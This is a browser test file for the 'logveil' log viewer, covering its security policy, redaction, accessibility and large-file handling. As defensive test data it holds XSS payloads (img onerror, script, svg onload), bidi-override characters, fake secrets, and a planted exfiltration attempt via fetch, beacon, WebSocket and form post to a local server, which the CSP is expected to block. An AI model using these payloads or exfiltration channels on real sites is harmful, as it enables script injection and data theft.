// The viewer in Chromium, as a person meets it: viewer.mjs LOGVEIL FLAVOURS [SCREENSHOTS].
// LOGVEIL is the host's binary with the page in it, FLAVOURS the binary that makes logs.
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { createServer, request } from 'node:http';
import { basename, join } from 'node:path';
import { gzipSync } from 'node:zlib';

import { Cases, axe, launch, scratch } from './chromium.mjs';

const [, , logveil, flavours, screenshots] = process.argv;
const folder = scratch();
const cases = new Cases('viewer in Chromium');
const out = (program, ...words) => execFileSync(program, words, { maxBuffer: 1 << 30 });

const dirty = join(folder, 'dirty.ndjson');
writeFileSync(dirty, out(flavours, 'corpus', 'dirty', '2000000', '7', join(folder, 'planted')));
const planted = readFileSync(join(folder, 'planted'), 'utf8').split('\n').filter((secret) => secret.length > 5);
writeFileSync(`${dirty}.gz`, gzipSync(readFileSync(dirty)));
const TRACE = `2026-03-01 08:00:00,100 INFO  [main] com.acme.App - up
2026-03-01 08:00:01,100 ERROR [main] com.acme.App - failed
java.lang.IllegalStateException: no
\tat com.acme.App.run(App.java:7)
\tat com.acme.Main.main(Main.java:3)
2026-03-01 08:00:02,100 INFO  [main] com.acme.App - down
`;
const odd = join(folder, 'hostile.log');
const HOSTILE = [
  '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>',
  '{"level":"ERROR","message":"</pre><svg onload=window.pwned=1>","trace_id":"<b>id</b>"}',
  '\u001b[31mred\u001b[0m \u001b]8;;http://example.invalid\u0007link',
  '{"message":"abc\u202Egnp.exe \u2066x\u2069 \u200b end"}',
  `{"message":"${'x'.repeat(10_000_000)}"}`,
];
writeFileSync(odd, Buffer.concat([Buffer.from(`${HOSTILE.join('\n')}\n`), Buffer.from([0x7b, 0xff, 0xfe, 0x80, 0x0a]), Buffer.from('{"message":"the last"}\n')]));

/** `logveil view` with these arguments: its address. */
async function view(...words) {
  const child = spawn(logveil, ['view', ...words], { stdio: ['ignore', 'pipe', 'ignore'] });
  process.on('exit', () => child.kill());
  const address = await new Promise((resolve, reject) => {
    child.stdout.once('data', (bytes) => resolve(String(bytes).trim()));
    child.once('exit', (code) => reject(new Error(`logveil view ended with ${code}`)));
  });
  return { address, end: () => child.kill() };
}

const status = (address, options = {}) =>
  new Promise((resolve, reject) => {
    const asked = request(address, options, (answer) => (answer.resume(), resolve({ code: answer.statusCode, headers: answer.headers })));
    asked.on('error', reject).end();
  });

const browser = await launch();
const served = await view();
const errors = [];
async function open(options = {}, address = served.address) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, acceptDownloads: true, ...options });
  const page = await context.newPage();
  page.on('pageerror', (error) => errors.push(String(error)));
  page.on('console', (said) => said.type() === 'error' && errors.push(said.text()));
  await page.goto(address);
  await page.waitForFunction(() => !document.querySelector('#preset')?.disabled || document.querySelector('.rooms'));
  return page;
}
const give = (page, ...paths) => page.locator('input[type=file]').first().setInputFiles(paths);
const shows = (page) => page.waitForSelector('.row:not(.wait)', { state: 'attached' });
/** Read to its end, and on the page. */
const done = async (page) => {
  await page.waitForFunction(() => /records?, (done|failed|cancelled)|records? match/.test(document.querySelector('[role=status]')?.textContent ?? ''), undefined, { timeout: 240_000 });
  await shows(page);
};
const facts = (page) => page.locator('.facts').textContent();
const shot = (page, name) => screenshots && page.screenshot({ path: join(screenshots, `${name}.png`) });
async function saved(page, name) {
  await page.getByRole('button', { name: 'Save', exact: true }).click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name }).click()]);
  return readFileSync(await download.path());
}
async function accessible(page) {
  await page.evaluate(axe());
  const { violations } = await page.evaluate(() => globalThis.axe.run());
  assert.deepEqual(violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 160)).join(' | ')}`), []);
}

await cases.try('it answers its own page alone, with a strict policy', async () => {
  const { code, headers } = await status(served.address);
  assert.equal(code, 200);
  assert.match(headers['content-security-policy'], /^default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; .*frame-ancestors 'none'$/);
  assert.equal((await status(served.address, { headers: { host: 'evil.example' } })).code, 403);
  assert.equal((await status(new URL('/', served.address))).code, 404);
  assert.equal((await status(served.address, { method: 'POST' })).code, 405);
});

await cases.try('a named log opens, and no secret is on the page', async () => {
  const named = await view(dirty, '--policy', 'cp1');
  const page = await open({}, named.address);
  await done(page);
  assert.match(await facts(page), /records · 2\.0 MB/);
  assert.ok((await page.locator('.row .mask').count()) > 0);
  const html = await page.content();
  assert.deepEqual(planted.filter((secret) => html.includes(secret)), []);
  await page.context().close();
  named.end();
});

const page = await open();
await shot(page, 'empty-light');
await cases.try('empty, it is accessible', () => accessible(page));

await cases.try('no request is made after it has loaded, and what is saved is what `logveil redact` writes', async () => {
  const requests = [];
  page.on('request', (made) => made.url().startsWith('blob:') || requests.push(made.url()));
  await give(page, dirty);
  await done(page);
  assert.ok((await saved(page, /Redacted log/)).equals(out(logveil, 'redact', dirty)), 'redacted');
  assert.ok((await saved(page, /Formatted/)).equals(out(logveil, 'run', dirty)), 'formatted');
  const findings = JSON.parse(await saved(page, /Findings/));
  const wanted = spawnSyncOut(logveil, 'validate', '--report-format', 'json', '--findings', 'all', dirty);
  assert.equal(findings.findings.length, wanted.findings.length);
  assert.deepEqual(requests, []);
});

function spawnSyncOut(...words) {
  try {
    return JSON.parse(out(...words));
  } catch (error) {
    return JSON.parse(error.stdout);
  }
}

await cases.try('level, rule, component, text and id narrow the list', async () => {
  const held = async () => Number((await page.locator('.held').textContent()).split(' ')[0].replaceAll(',', ''));
  const number = async (button) => Number((await button.locator('.number').textContent()).replaceAll(',', ''));
  const all = page.getByRole('button', { name: 'Show all' });
  const level = page.locator('.level.l1');
  const errorsThere = await number(level);
  await level.click();
  await page.waitForFunction((want) => document.querySelector('.held')?.textContent.startsWith(want), errorsThere.toLocaleString('en'));
  await all.click();
  const component = page.locator('fieldset', { hasText: 'Component' }).locator('.rule').first();
  const there = await number(component);
  await component.click();
  await page.waitForFunction((want) => document.querySelector('.held')?.textContent.startsWith(want), there.toLocaleString('en'));
  await all.click();
  await page.locator('.rule.error', { hasText: 'leak/pan' }).click();
  await page.getByRole('button', { name: 'First' }).click();
  await page.waitForSelector('.record .finding:has-text("leak/pan")');
  await shot(page, 'record-light');
  await accessible(page);
  await all.click();
  await page.getByPlaceholder('Find text').fill('[redacted]');
  await page.waitForFunction(() => document.querySelector('.held') && document.querySelectorAll('.row .mask').length > 5);
  await all.click();
  await page.waitForFunction(() => !document.querySelector('.held'));
  assert.equal(await page.getByPlaceholder('Find text').inputValue(), '');
  await page.waitForFunction(() => document.querySelector('.facts').textContent.includes(document.querySelector('.list').ariaLabel));
  await page.locator('.list').press('Home');
  await page.waitForSelector('.record h2:text-matches(":1$")');
  const id = page.locator('button.value.id').last();
  const value = await id.textContent();
  await id.click();
  await page.waitForSelector('.chip');
  assert.equal(await page.locator('.chip code').textContent(), value);
  assert.ok((await held()) >= 1);
  await all.click();
});

await cases.try('the keyboard suffices', async () => {
  const keys = await open();
  const press = (key, times = 1) => Array.from({ length: times }).reduce((before) => before.then(() => keys.keyboard.press(key)), Promise.resolve());
  const focused = () => keys.evaluate(() => document.activeElement?.textContent?.slice(0, 30) + (document.activeElement?.getAttribute('role') ?? ''));
  for (let tabs = 0; tabs < 12 && !(await focused()).startsWith('Try a sample'); tabs += 1) await press('Tab');
  await press('Enter');
  await done(keys);
  for (let tabs = 0; tabs < 40 && !(await focused()).endsWith('listbox'); tabs += 1) await press('Tab');
  await press('ArrowDown', 3);
  await keys.waitForSelector('.record .finding:has-text("leak/pan")');
  assert.equal(await keys.locator('.row.chosen').getAttribute('aria-posinset'), '3');
  await press('End');
  await keys.waitForSelector('.record .raw');
  await press('Escape');
  assert.equal(await keys.locator('.record').count(), 0);
  for (let tabs = 0; tabs < 4 && !(await focused()).endsWith('slider'); tabs += 1) await press('Shift+Tab');
  await press('Home');
  await keys.waitForSelector('.row.chosen[aria-posinset="1"]');
  await press('ArrowRight');
  assert.ok(Number(await keys.locator('.row.chosen').getAttribute('aria-posinset')) > 1);
  assert.match(await keys.locator('[role=slider]').getAttribute('aria-valuetext'), /^2026-03-01 08:00.*: \d+ records?, \d+ errors$/);
  await keys.context().close();
});

await cases.try('a hostile log is text', async () => {
  const hostile = await open();
  await give(hostile, odd);
  await done(hostile);
  for (let at = 0; at < 6; at += 1) {
    await hostile.locator('.list').press(at ? 'ArrowDown' : 'Home');
    await hostile.waitForTimeout(100);
  }
  await shot(hostile, 'hostile');
  const text = await hostile.locator('.list').textContent();
  assert.match(text, /<img src=x onerror/);
  assert.match(text, /⟨1B⟩\[31mred/);
  assert.match(text, /⟨202E⟩/);
  assert.equal(await hostile.evaluate(() => globalThis.pwned), undefined);
  assert.equal(await hostile.locator('.list img, .list script, .list svg, .record img, .record script').count(), 0);
  assert.match(await facts(hostile), /^text · 7 records .*1 masked/);
  await hostile.context().close();
});

await cases.try('a planted exfiltration is stopped by the policy', async () => {
  let hits = 0;
  const outside = createServer((asked, answer) => ((hits += 1), answer.writeHead(200, { 'access-control-allow-origin': '*' }).end()));
  await new Promise((resolve) => outside.listen(0, '127.0.0.1', resolve));
  const target = `http://127.0.0.1:${outside.address().port}/`;
  const planting = await open();
  const tried = await planting.evaluate(async (to) => {
    const stopped = [];
    document.addEventListener('securitypolicyviolation', (event) => stopped.push(event.effectiveDirective));
    const fetched = await fetch(`${to}?a`).then(() => 'sent', () => 'stopped');
    new Image().src = `${to}?b`;
    navigator.sendBeacon(`${to}?c`, 'x');
    const socket = (() => { try { return new WebSocket(to.replace('http', 'ws')); } catch { return undefined; } })();
    const script = document.createElement('script');
    script.textContent = 'globalThis.pwned = 1';
    document.body.append(script);
    const form = Object.assign(document.createElement('form'), { action: to, method: 'post' });
    document.body.append(form);
    form.submit();
    for (let waits = 0; waits < 100 && new Set(stopped).size < 4; waits += 1) await new Promise((resolve) => setTimeout(resolve, 100));
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { fetched, stopped: [...new Set(stopped)].sort(), pwned: globalThis.pwned, socket: socket?.readyState };
  }, target);
  assert.equal(tried.fetched, 'stopped');
  assert.equal(tried.pwned, undefined);
  for (const directive of ['connect-src', 'form-action', 'img-src', 'script-src-elem']) assert.ok(tried.stopped.includes(directive), `${directive}: ${tried.stopped}`);
  assert.equal(hits, 0);
  outside.close();
  await planting.context().close();
  errors.length = 0;
});

await cases.try('gzip, several files, and pasted lines', async () => {
  const several = await open();
  await give(several, `${dirty}.gz`, odd);
  await done(several);
  assert.match(await several.locator('.what h1').textContent(), /2 files/);
  assert.equal(await several.locator('.row .file').first().textContent(), basename(`${dirty}.gz`));
  const other = await open();
  await other.getByLabel('Or paste lines').fill('{"msg":"pin=1234 for x"}\nplain');
  await other.getByRole('button', { name: 'Open what is pasted' }).click();
  await done(other);
  assert.match(await facts(other), /^json · 2 records/);
  const wide = join(folder, 'wide.log');
  writeFileSync(wide, Buffer.from('\ufeffpassword=hunter2\n', 'utf16le'));
  await give(several, wide);
  await several.waitForSelector('[role=alert]:has-text("UTF-16")');
  assert.equal(await several.locator('.row').count(), 0);
  await several.context().close();
  await other.context().close();
});

await cases.try('gzip of several members, as `cat a.gz b.gz` makes it', async () => {
  const members = join(folder, 'members.ndjson.gz');
  const part = readFileSync(dirty);
  const third = part.lastIndexOf(10, part.length / 3) + 1;
  writeFileSync(members, Buffer.concat([part.subarray(0, third), part.subarray(third, 2 * third), part.subarray(2 * third)].map((bytes) => gzipSync(bytes))));
  const several = await open();
  await give(several, members);
  await done(several);
  assert.ok((await saved(several, /Redacted log/)).equals(out(logveil, 'redact', dirty)));
  assert.equal(await several.locator('[role=alert]').count(), 0);
  const cut = join(folder, 'cut.ndjson.gz');
  writeFileSync(cut, readFileSync(members).subarray(0, -2000));
  await give(several, cut);
  await several.waitForSelector('[role=alert]:has-text("ends too early")');
  assert.match(await facts(several), /records/);
  await several.context().close();
});

await cases.try('a stack trace is one row with its record', async () => {
  const traced = join(folder, 'traced.log');
  writeFileSync(traced, TRACE);
  const several = await open();
  await give(several, traced);
  await done(several);
  assert.match(await facts(several), /· 3 records/);
  assert.equal(await several.locator('.row').count(), 3);
  assert.deepEqual(await several.locator('.row .line').allTextContents(), ['1', '2', '6']);
  assert.match(await several.locator('.row').nth(1).textContent(), /\+ 3 lines: java\.lang/);
  await several.locator('.row').nth(1).click();
  await several.waitForSelector('.record .raw:has-text("Main.main")');
  await several.context().close();
});

await cases.try('what spans lines is one record, and one redaction, wherever a piece of the log ends', async () => {
  const traced = join(folder, 'long.log');
  const stamp = (n) => `2026-03-01 08:${String(Math.floor(n / 60) % 60).padStart(2, '0')}:${String(n % 60).padStart(2, '0')},100`;
  const frames = (n) => Array.from({ length: n % 9 }, (_, at) => `\tat com.acme.Job${n}.run(Job.java:${at})\n`).join('');
  const failed = (n) => `${stamp(n)} ERROR [main] com.acme.Job - no ${n}\njava.lang.Error: no${n % 5 ? '' : ' password=hunter2'}\n${frames(n)}`;
  writeFileSync(traced, Array.from({ length: 12_000 }, (_, n) => failed(n)).join(''));
  const several = await open();
  await give(several, traced);
  await done(several);
  assert.match(await facts(several), /· 12,000 records/);
  assert.ok((await saved(several, /Redacted log/)).equals(out(logveil, 'redact', traced)));
  const keyed = join(folder, 'keys.log');
  const key = (n) => `-----BEGIN RSA PRIVATE KEY-----\n${`${Buffer.from(`line ${n} of a key that is none, ${'x'.repeat(15)}`).toString('base64').slice(0, 64)}\n`.repeat(25)}-----END RSA PRIVATE KEY-----\n`;
  writeFileSync(keyed, Array.from({ length: 1500 }, (_, n) => `INFO step ${n}\n{"msg":"step ${n}"}\n${key(n)}`).join(''));
  await give(several, keyed);
  await done(several);
  const clean = out(logveil, 'redact', keyed);
  assert.ok(!clean.includes('bGluZ'));
  assert.ok((await saved(several, /Redacted log/)).equals(clean));
  await several.context().close();
});

/** The page by way of a server that puts `before` in front of the scripts whose paths match. */
async function wrapping(which, before) {
  let times = 0;
  const between = createServer(async ({ url }, answer) => {
    const asked = new URL(url, served.address);
    const given = await fetch(asked);
    const body = Buffer.from(await given.arrayBuffer());
    const wraps = which.test(asked.pathname);
    times += Number(wraps);
    const headers = ['content-type', 'content-security-policy'].map((name) => [name, given.headers.get(name)]);
    answer.writeHead(given.status, Object.fromEntries(headers.filter(([, value]) => value))).end(wraps ? before + body : body);
  });
  await new Promise((resolve) => between.listen(0, '127.0.0.1', resolve));
  const address = `http://127.0.0.1:${between.address().port}${new URL(served.address).pathname}`;
  return { address, times: () => times, end: () => between.close() };
}

// What the module is wrapped in: a record with this in it stops it, as a mistake of ours would.
const STOPS = `{
  const wrap = (instance) => {
    const { exports } = instance;
    const take = (self, at, length, last) => {
      const text = new TextDecoder('latin1').decode(new Uint8Array(exports.memory.buffer, at >>> 0, length));
      if (text.includes('STOPS-THE-MODULE')) throw new WebAssembly.RuntimeError('unreachable');
      return exports.review_take(self, at, length, last);
    };
    return Object.defineProperty(instance, 'exports', { value: { ...exports, review_take: take } });
  };
  const { Instance, instantiate } = WebAssembly;
  WebAssembly.Instance = function (module, imports) { return wrap(new Instance(module, imports)); };
  WebAssembly.Instance.prototype = Instance.prototype;
  WebAssembly.instantiate = async (module, imports) => wrap(await instantiate(module, imports));
}
`;

await cases.try('a record that stops the module is refused, counted and named; all else is there', async () => {
  const wrapped = await wrapping(/hand-[^/]*\.js$/, STOPS);
  const page = await open({}, wrapped.address);
  const stopping = join(folder, 'stopping.ndjson');
  const line = (n) => (n % 1000 === 500 ? `{"message":"STOPS-THE-MODULE ${n}","pin":"${n}"}` : `{"message":"m ${n}","password":"hunter${n}"}`);
  writeFileSync(stopping, Array.from({ length: 3000 }, (_, n) => `${line(n)}\n`).join(''));
  await give(page, stopping);
  await done(page);
  assert.ok(wrapped.times() >= 2);
  assert.match(await facts(page), /3,000 records .*3 masked/);
  assert.match(await page.locator('[role=alert]').textContent(), /^3 records stopped the module, and are withheld/);
  const text = String(await saved(page, /Redacted log/)).split('\n');
  assert.equal(text.length, 3001);
  for (const [n, said] of text.slice(0, 3000).entries()) {
    if (n % 1000 === 500) assert.match(said, new RegExp(`^\\{"message":"\\[REDACTED\\]","logveil":\\{"reason":"limit/trap","line":${n + 1},`));
    else assert.equal(said, `{"message":"m ${n}","password":"[REDACTED]"}`);
  }
  const rule = page.locator('.rule', { hasText: 'limit/trap' });
  assert.equal(await rule.locator('.number').textContent(), '3');
  await rule.click();
  await page.getByRole('button', { name: 'First' }).click();
  await page.waitForSelector('.record .finding:has-text("limit/trap")');
  assert.match(await page.locator('.record h2').textContent(), /:501$/);
  await shot(page, 'stopped');
  await page.getByRole('button', { name: 'Show all' }).click();
  await give(page, dirty);
  await page.waitForFunction(() => /2\.0 MB/.test(document.querySelector('.facts')?.textContent ?? ''));
  await done(page);
  assert.equal(await page.locator('[role=alert]').count(), 0);
  await page.context().close();
  wrapped.end();
});

// What the worker that reads is wrapped in: after two reads a file's stream gives nothing any more.
const STALLS = `{
  const { stream } = Blob.prototype;
  Blob.prototype.stream = function () {
    const from = stream.call(this);
    let reads = 0;
    const getReader = (how) => {
      const reader = from.getReader(how);
      const never = (view) => (structuredClone(view, { transfer: [view.buffer] }), new Promise(() => undefined));
      return { read: (view, options) => ((reads += 1) > 2 ? never(view) : reader.read(view, options)), cancel: () => reader.cancel() };
    };
    return { getReader };
  };
}
`;

await cases.try('a stream that stands still, or that there is none of, is read in parts', async () => {
  for (const how of [STALLS, 'Blob.prototype.stream = undefined;\n']) {
    const wrapped = await wrapping(/worker-[^/]*\.js$/, how);
    const page = await open({}, wrapped.address);
    assert.ok(wrapped.times());
    await give(page, dirty);
    await done(page);
    assert.ok((await saved(page, /Redacted log/)).equals(out(logveil, 'redact', dirty)));
    await page.context().close();
    wrapped.end();
  }
});

await cases.try('dropped files and pasted text open', async () => {
  const page = await open();
  const drop = (text, name) => page.evaluate(([said, file]) => {
    const given = new DataTransfer();
    if (file) given.items.add(new File([said], file));
    else given.setData('text/plain', said);
    for (const type of ['dragover', 'drop']) document.body.dispatchEvent(new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer: given }));
  }, [text, name]);
  await drop('{"msg":"pin=1234"}\n', 'one.ndjson');
  await done(page);
  assert.equal(await page.locator('.what h1').textContent(), 'one.ndjson');
  assert.match(await facts(page), /^json · 1 record ·/);
  await drop('two\nlines\n', '');
  await page.waitForFunction(() => document.querySelector('.facts')?.textContent.startsWith('text · 2 records'));
  await page.evaluate(() => {
    const given = new DataTransfer();
    given.setData('text/plain', 'one\ntwo\npassword=hunter2\n');
    document.body.dispatchEvent(new ClipboardEvent('paste', { bubbles: true, clipboardData: given }));
  });
  await page.waitForFunction(() => document.querySelector('.facts')?.textContent.startsWith('text · 3 records'));
  await page.waitForSelector('.row .mask');
  assert.equal(await page.locator('.row .mask').count(), 1);
  await page.context().close();
});

await cases.try('a policy of one\'s own, and what is wrong with it', async () => {
  const own = await open();
  await own.getByLabel('Policy', { exact: true }).selectOption('');
  await own.getByLabel('Your policy').fill('version: 1\nextends: [cp2]');
  await own.getByRole('button', { name: 'Try a sample' }).click();
  await own.waitForSelector('[role=alert]:has-text("did you mean `cp1`?")');
  await own.getByRole('button', { name: /Policy/ }).click();
  await own.getByLabel('Your policy').fill('version: 1\nextends: [json]\nredact:\n  keys:\n    - { match: [took_ms], action: token }');
  await own.getByRole('button', { name: 'Read again with it' }).click();
  await done(own);
  await own.waitForSelector('.row .mask:has-text("tok_run-")');
  await own.context().close();
});

for (const colorScheme of ['light', 'dark']) {
  await cases.try(`${colorScheme}, accessible; 320 pixels are enough`, async () => {
    const narrow = await open({ colorScheme, viewport: { width: 320, height: 640 } });
    await narrow.getByRole('button', { name: 'Try a sample' }).click();
    await done(narrow);
    await shot(narrow, `narrow-${colorScheme}`);
    assert.ok((await narrow.evaluate(() => document.documentElement.scrollWidth)) <= 320);
    await narrow.getByRole('button', { name: 'Filters' }).click();
    await accessible(narrow);
    await narrow.locator('.row').first().click();
    await narrow.waitForSelector('.record .bar');
    await narrow.waitForTimeout(300);
    await shot(narrow, `narrow-record-${colorScheme}`);
    await accessible(narrow);
    await narrow.setViewportSize({ width: 1440, height: 900 });
    await shot(narrow, `wide-${colorScheme}`);
    await accessible(narrow);
    await narrow.context().close();
  });
}

await cases.try('100 MB: read, stopped, and never in the way', async () => {
  const file = join(folder, 'large.ndjson');
  const bytes = out(flavours, 'corpus', 'seed', '100000000', '1');
  writeFileSync(file, bytes);
  const large = await open();
  await large.evaluate(() => {
    globalThis.longest = 0;
    new PerformanceObserver((list) => list.getEntries().forEach(({ duration }) => (globalThis.longest = Math.max(globalThis.longest, duration)))).observe({ type: 'longtask', buffered: false });
    globalThis.first = 0;
    new MutationObserver(() => (globalThis.first ||= document.querySelector('.row:not(.wait)') ? performance.now() : 0)).observe(document.body, { subtree: true, childList: true });
    document.addEventListener('change', () => (globalThis.began = performance.now()), true);
  });
  // A person needs longer than this to choose a file.
  await large.waitForTimeout(1500);
  const session = await browser.newBrowserCDPSession();
  const renderers = async () => (await session.send('SystemInfo.getProcessInfo')).processInfo.filter(({ type }) => type === 'renderer').map(({ id }) => id);
  /** Milliseconds of processor time of each worker. */
  const workers = async () => {
    const tasks = (await renderers()).flatMap((id) => readdirSync(`/proc/${id}/task`).map((task) => `/proc/${id}/task/${task}`));
    const own = tasks.filter((task) => readFileSync(`${task}/comm`, 'utf8').startsWith('DedicatedWorker'));
    return new Map(own.map((task) => [task, Number(readFileSync(`${task}/schedstat`, 'utf8').split(' ')[0]) / 1e6]));
  };
  const before = await workers();
  await give(large, file);
  await done(large);
  const worked = [...(await workers())].map(([task, time]) => Math.round(time - (before.get(task) ?? 0))).filter((time) => time > 5);
  assert.match(await facts(large), /100 MB/);
  const seen = await large.evaluate(() => ({ longest: globalThis.longest, first: globalThis.first - globalThis.began, all: performance.now() - globalThis.began }));
  await large.locator('.list').press('End');
  await large.waitForSelector('.row.chosen:not(.wait)');
  const peak = Math.max(...(await renderers()).map((id) => Number(/VmHWM:\s+(\d+)/.exec(readFileSync(`/proc/${id}/status`, 'utf8'))?.[1] ?? 0)));
  console.log(`| 100 MB in the viewer | ${Math.round(seen.all)} ms, ${Math.round(bytes.length / 1000 / seen.all)} MB/s | first records after ${Math.round(seen.first)} ms | longest task ${Math.round(seen.longest)} ms | processor time of the workers ${worked.sort((a, b) => b - a).join(' + ')} ms | peak memory ${Math.round(peak / 1000)} MB |`);
  await give(large, file);
  await large.getByRole('button', { name: 'Cancel' }).click();
  await large.waitForSelector('.facts:has-text("stopped early")');
  await large.context().close();
});

await cases.try('nothing went wrong on the way', () => assert.deepEqual(errors, []));
await browser.close();
served.end();
cases.close();
process.exit();
